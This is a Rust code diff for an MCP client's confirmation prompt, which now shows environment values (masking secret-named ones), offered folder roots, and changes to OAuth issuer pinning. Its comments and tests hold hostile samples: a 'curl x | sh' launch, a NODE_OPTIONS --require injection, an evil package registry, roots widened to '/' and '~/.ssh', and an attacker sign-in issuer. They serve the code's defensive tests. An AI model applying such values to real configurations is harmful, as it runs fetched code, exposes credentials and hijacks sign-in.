@@ -29,8 +29,12 @@ pub enum Launch {
         server: String,
         command: String,
         args: Vec<String>,
-        /// Names only: the values may be secrets.
-        env_keys: Vec<String>,
+        /// Each variable of its `env`, with its value unless its name says it is a secret
+        /// ([`conduit_mcp::config::is_secret_variable`]): a value such as
+        /// `NODE_OPTIONS=--require /tmp/x.js` or `npm_config_registry=https://evil/`
+        /// changes what runs as much as the command does, and the page shows every value
+        /// masked.
+        env: Vec<(String, Option<String>)>,
         /// The variables among `env_keys` whose values the file already held for this
         /// server and that go along to what now runs (its arguments or folder changed).
         kept_values: Vec<String>,
@@ -38,6 +42,9 @@ pub enum Launch {
         /// The variables of Conduit's own environment whose values it would be given
         /// (`${NAME}` in its `env`).
         variables: Vec<String>,
+        /// The folders it is offered as roots (a filesystem server serves what its roots
+        /// name).
+        roots: Vec<String>,
     },
     Remote {
         server: String,
@@ -55,6 +62,12 @@ pub enum Launch {
         sign_in_scopes: Vec<String>,
         /// The client metadata its sign-in names Conduit by (`oauth.clientMetadataUrl`).
         client_metadata_url: Option<String>,
+        /// The folders it is offered as roots.
+        roots: Vec<String>,
+        /// The authorization server its sign-in is pinned to (`oauth.issuer`), and the one
+        /// it was pinned to before when the edit drops the pin.
+        issuer: Option<String>,
+        dropped_issuer: Option<String>,
     },
 }
 
@@ -75,6 +88,10 @@ struct LaunchSpec<'a> {
     client_secret: Option<&'a Value>,
     scopes: Option<&'a Value>,
     client_metadata_url: Option<&'a Value>,
+    /// The folders offered as roots, and the authorization server sign-in is pinned to: a
+    /// page must not widen what a server may read, or unpin its sign-in, unseen.
+    roots: Option<&'a Value>,
+    issuer: Option<&'a Value>,
 }
 
 /// What an entry would run or reach; `None` when it is off (it starts nothing).
@@ -107,6 +124,8 @@ fn entry_spec(entry: &Value) -> Option<LaunchSpec<'_>> {
         client_metadata_url: object
             .get("oauth")
             .and_then(|oauth| oauth.get("clientMetadataUrl")),
+        roots: object.get("roots"),
+        issuer: object.get("oauth").and_then(|oauth| oauth.get("issuer")),
     })
 }
 
@@ -126,6 +145,22 @@ fn keys(value: Option<&Value>) -> Vec<String> {
         .and_then(Value::as_object)
         .map(|object| object.keys().cloned().collect())
         .unwrap_or_default()
+}
+
+/// An `env` object's variables, each with its value unless its name says it is a secret.
+fn shown_env(value: Option<&Value>) -> Vec<(String, Option<String>)> {
+    value
+        .and_then(Value::as_object)
+        .into_iter()
+        .flatten()
+        .map(|(key, value)| {
+            let text = value
+                .as_str()
+                .map_or_else(|| value.to_string(), str::to_owned);
+            let shown = (!conduit_mcp::config::is_secret_variable(key, &text)).then_some(text);
+            (key.clone(), shown)
+        })
+        .collect()
 }
 
 /// The variables (`${NAME}`) the strings among `values` take, each once, in order.
@@ -216,13 +251,14 @@ pub fn launches_to_confirm(old: &Map<String, Value>, new: &Map<String, Value>) -
                     server: name.clone(),
                     command,
                     args: strings(spec.args),
-                    env_keys: keys(spec.env),
+                    env: shown_env(spec.env),
                     kept_values: kept_values(
                         spec.env,
                         old.get(name).and_then(|entry| entry.get("env")),
                     ),
                     cwd: text(spec.cwd),
                     variables: variables(values(spec.env)),
+                    roots: strings(spec.roots),
                 },
                 (None, Some(url)) => Launch::Remote {
                     server: name.clone(),
@@ -237,6 +273,13 @@ pub fn launches_to_confirm(old: &Map<String, Value>, new: &Map<String, Value>) -
                     client_secret: spec.client_secret.is_some(),
                     sign_in_scopes: strings(spec.scopes),
                     client_metadata_url: text(spec.client_metadata_url),
+                    roots: strings(spec.roots),
+                    issuer: text(spec.issuer),
+                    dropped_issuer: old
+                        .get(name)
+                        .and_then(entry_spec)
+                        .and_then(|old| text(old.issuer))
+                        .filter(|_| spec.issuer.is_none()),
                     url,
                 },
                 // Neither a command nor a URL: the entry cannot start; the file's own
@@ -436,10 +479,11 @@ pub fn confirmation_text(launches: &[Launch], losses: &[Loss]) -> String {
                 server,
                 command,
                 args,
-                env_keys,
+                env,
                 kept_values,
                 cwd,
                 variables,
+                roots,
             } => {
                 text.push_str(&format!(
                     "\nServer {} will run the program:\n  {command:?}\n",
@@ -451,11 +495,17 @@ pub fn confirmation_text(launches: &[Launch], losses: &[Loss]) -> String {
                     let quoted: Vec<String> = args.iter().map(|a| format!("{a:?}")).collect();
                     text.push_str(&format!("with the arguments:\n  {}\n", quoted.join(" ")));
                 }
-                if !env_keys.is_empty() {
-                    text.push_str(&format!(
-                        "with the environment variables: {}\n",
-                        all_named(env_keys)
-                    ));
+                if !env.is_empty() {
+                    text.push_str("with the environment variables:\n");
+                    for (key, value) in env {
+                        let shown = match value {
+                            Some(value) => format!("={}", quoted_cut(value, 200)),
+                            None => {
+                                " (its value not shown: the name says it is a secret)".to_owned()
+                            }
+                        };
+                        text.push_str(&format!("  {}{shown}\n", name(key)));
+                    }
                 }
                 if !kept_values.is_empty() {
                     text.push_str(&format!(
@@ -469,6 +519,7 @@ pub fn confirmation_text(launches: &[Launch], losses: &[Loss]) -> String {
                 if let Some(cwd) = cwd {
                     text.push_str(&format!("in the folder {cwd:?}\n"));
                 }
+                offered_roots(&mut text, roots);
             }
             Launch::Remote {
                 server,
@@ -479,6 +530,9 @@ pub fn confirmation_text(launches: &[Launch], losses: &[Loss]) -> String {
                 client_secret,
                 sign_in_scopes,
                 client_metadata_url,
+                roots,
+                issuer,
+                dropped_issuer,
             } => {
                 text.push_str(&format!(
                     "\nServer {} will connect to:\n  {url:?}\nthat is, to the host: {host}\n",
@@ -505,6 +559,19 @@ pub fn confirmation_text(launches: &[Launch], losses: &[Loss]) -> String {
                         quoted_cut(metadata, 200)
                     ));
                 }
+                if let Some(issuer) = issuer {
+                    text.push_str(&format!(
+                        "signing in only at the authorization server {}\n",
+                        quoted_cut(issuer, 200)
+                    ));
+                }
+                if let Some(dropped) = dropped_issuer {
+                    text.push_str(&format!(
+                        "no longer holding its sign-in to the authorization server {}: any the server names is trusted\n",
+                        quoted_cut(dropped, 200)
+                    ));
+                }
+                offered_roots(&mut text, roots);
                 if !variables.is_empty() {
                     text.push_str(&given(variables));
                 }
@@ -512,6 +579,20 @@ pub fn confirmation_text(launches: &[Launch], losses: &[Loss]) -> String {
         }
     }
     text
+}
+
+/// The folders a server is offered, for the question: each one it may read or change.
+fn offered_roots(text: &mut String, roots: &[String]) {
+    if !roots.is_empty() {
+        text.push_str(&format!(
+            "offering it these folders to work in (roots): {}\n",
+            roots
+                .iter()
+                .map(|root| quoted_cut(root, 200))
+                .collect::<Vec<_>>()
+                .join(", ")
+        ));
+    }
 }
 
 /// The servers object of a file's text, read as the runtime reads it; empty when the text
@@ -1307,10 +1388,11 @@ mod tests {
                     server: "time".into(),
                     command: "uvx".into(),
                     args: vec!["mcp-server-time".into(), "--evil".into()],
-                    env_keys: vec!["TZ".into()],
+                    env: vec![("TZ".into(), Some("UTC".into()))],
                     kept_values: vec!["TZ".into()],
                     cwd: None,
                     variables: vec![],
+                    roots: vec![],
                 },
                 Launch::Remote {
                     server: "web".into(),
@@ -1321,33 +1403,39 @@ mod tests {
                     client_secret: false,
                     sign_in_scopes: vec![],
                     client_metadata_url: None,
+                    roots: vec![],
+                    issuer: None,
+                    dropped_issuer: None,
                 },
                 Launch::Stdio {
                     server: "off".into(),
                     command: "node".into(),
                     args: vec!["x.js".into()],
-                    env_keys: vec![],
+                    env: vec![],
                     kept_values: vec![],
                     cwd: None,
                     variables: vec![],
+                    roots: vec![],
                 },
                 Launch::Stdio {
                     server: "new".into(),
                     command: "sh".into(),
                     args: vec!["-c".into(), "curl x | sh".into()],
-                    env_keys: vec!["TOKEN".into()],
+                    env: vec![("TOKEN".into(), None)],
                     kept_values: vec![],
                     cwd: Some("/tmp".into()),
                     variables: vec![],
+                    roots: vec![],
                 },
                 Launch::Stdio {
                     server: "envchange".into(),
                     command: "rm".into(),
                     args: vec![],
-                    env_keys: vec![],
+                    env: vec![],
                     kept_values: vec![],
                     cwd: None,
                     variables: vec![],
+                    roots: vec![],
                 },
             ]
         );
@@ -1497,6 +1585,59 @@ mod tests {
         assert!(text.len() < 2500, "{}", text.len());
     }
 
+    /// A filesystem server's "Always allow" holds for what its roots name: wider roots, an
+    /// unpinned sign-in, or an environment value that changes what runs (the page shows
+    /// every value masked) are asked about, with the values in the question.
+    #[test]
+    fn roots_an_unpinned_sign_in_and_environment_values_are_asked_about_with_what_they_are() {
+        let old = servers(json!({
+            "files": {"command": "npx", "args": ["-y", "@modelcontextprotocol/server-filesystem"],
+                "roots": ["~/projects"]},
+            "work": {"url": "https://mcp.work.example/mcp",
+                "oauth": {"issuer": "https://login.work.example"}},
+        }));
+        let mut widened = old.clone();
+        widened["files"]["roots"] = json!(["/"]);
+        widened["files"]["env"] = json!({
+            "npm_config_registry": "https://registry.evil.example/",
+            "GITHUB_TOKEN": "ghp_s3cret",
+        });
+        widened["work"]["oauth"] = json!({});
+        let launches = launches_to_confirm(&old, &widened);
+        assert_eq!(launches.len(), 2, "{launches:?}");
+        let text = confirmation_text(&launches, &[]);
+        for expected in [
+            "offering it these folders to work in (roots): \"/\"\n",
+            "  \"npm_config_registry\"=\"https://registry.evil.example/\"\n",
+            "  \"GITHUB_TOKEN\" (its value not shown: the name says it is a secret)\n",
+            "no longer holding its sign-in to the authorization server \"https://login.work.example\"",
+        ] {
+            assert!(text.contains(expected), "{expected} not in: {text}");
+        }
+        assert!(!text.contains("ghp_s3cret"), "{text}");
+
+        // Roots alone, and a pin to another issuer, are asked about too.
+        let mut roots_only = old.clone();
+        roots_only["files"]["roots"] = json!(["~/projects", "~/.ssh"]);
+        let launches = launches_to_confirm(&old, &roots_only);
+        assert_eq!(launches.len(), 1, "{launches:?}");
+        assert!(
+            confirmation_text(&launches, &[]).contains("\"~/projects\", \"~/.ssh\""),
+            "{launches:?}"
+        );
+        let mut repinned = old.clone();
+        repinned["work"]["oauth"]["issuer"] = json!("https://login.evil.example");
+        let text = confirmation_text(&launches_to_confirm(&old, &repinned), &[]);
+        assert!(
+            text.contains(
+                "signing in only at the authorization server \"https://login.evil.example\""
+            ),
+            "{text}"
+        );
+        assert!(!text.contains("no longer holding"), "{text}");
+        assert_eq!(launches_to_confirm(&old, &old.clone()), vec![]);
+    }
+
     #[test]
     fn what_an_entry_sends_and_takes_from_conduits_environment_is_asked_about() {
         let old = servers(json!({
@@ -1517,7 +1658,7 @@ mod tests {
         for expected in [
             "sending the headers: \"X-Client\"",
             "\"ANTHROPIC_API_KEY\"",
-            "with the environment variables: \"TZ\"",
+            "with the environment variables:\n  \"TZ\"=\"${OPENAI_API_KEY}\"\n",
             "\"OPENAI_API_KEY\"",
             "\"HOST\", \"CLIENT_SECRET\"",
         ] {
